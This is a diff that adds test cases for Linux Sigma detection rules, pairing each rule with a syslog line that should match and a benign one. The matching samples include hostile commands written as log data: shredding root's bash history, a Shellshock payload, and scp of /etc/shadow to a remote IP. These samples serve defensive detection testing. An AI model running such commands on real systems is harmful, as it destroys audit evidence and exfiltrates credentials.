@@ -135,6 +135,61 @@ SIGMA_CASES = [
         bsd("rhel7-web01 kernel", "e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex", 6),
     ),
     (
+        "clamav/lnx_clamav_relevant_message.yml",
+        bsd("fs01 clamd[901]", "/srv/share/inbox/faktura.exe: Win.Trojan.Agent-1234 FOUND", 28),
+        bsd("fs01 clamd[901]", "/srv/share/inbox/faktura.pdf: OK", 30),
+    ),
+    (
+        "guacamole/lnx_guacamole_susp_guacamole.yml",
+        bsd("rdgw01 guacd[1201]", 'User "anna" joined connection "$4b3c" (2 users now present)', 30),
+        bsd("rdgw01 guacd[1201]", 'User "anna" joined connection "$4b3c" (1 users now present)', 30),
+    ),
+    (
+        "lnx_shell_clear_cmd_history.yml",  # a wildcard keyword: 'shred *sh_history'
+        bsd(
+            "deb12-srv sudo",
+            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/shred -u /root/.bash_history",
+            85,
+        ),
+        bsd(
+            "deb12-srv sudo",
+            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/shred -u /tmp/old.img",
+            85,
+        ),
+    ),
+    (
+        "lnx_symlink_etc_passwd.yml",
+        bsd(
+            "rhel9-srv01 sudo",
+            "    anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ln -s /etc/passwd /tmp/p",
+            85,
+        ),
+        bsd(
+            "rhel9-srv01 sudo",
+            "    anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ln -s /etc/hosts /tmp/h",
+            85,
+        ),
+    ),
+    (
+        "lnx_shellshock.yml",
+        bsd("web01 dhclient[812]", "execve: () { :; }; /bin/bash -c id", 27),
+        bsd("web01 dhclient[812]", "DHCPACK from 10.1.0.1 (xid=0x1234)", 30),
+    ),
+    (
+        "lnx_file_copy.yml",  # a tool and a remote target ('@' or ':')
+        bsd(
+            "rhel9-srv01 sudo",
+            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/scp /etc/shadow x@203.0.113.50",
+            85,
+        ),
+        r5424("rhel9-srv01", "systemd", "Started Session 12 of User anna.", 30),
+    ),
+    (
+        "lnx_buffer_overflows.yml",
+        bsd("rhel7-web01 kernel", "ftpd[2201]: attempt to execute code on stack by uid 0", 4),
+        bsd("rhel7-web01 kernel", "ftpd[2201]: segfault at 0 ip 00007f sp 00007ffd error 4", 4),
+    ),
+    (
         "vsftpd/lnx_vsftpd_susp_error_messages.yml",
         bsd("ftp01 vsftpd[2201]", "Connection refused: too many sessions for this address.", 27),
         bsd("ftp01 proftpd[2201]", "Connection refused: too many sessions for this address.", 27),
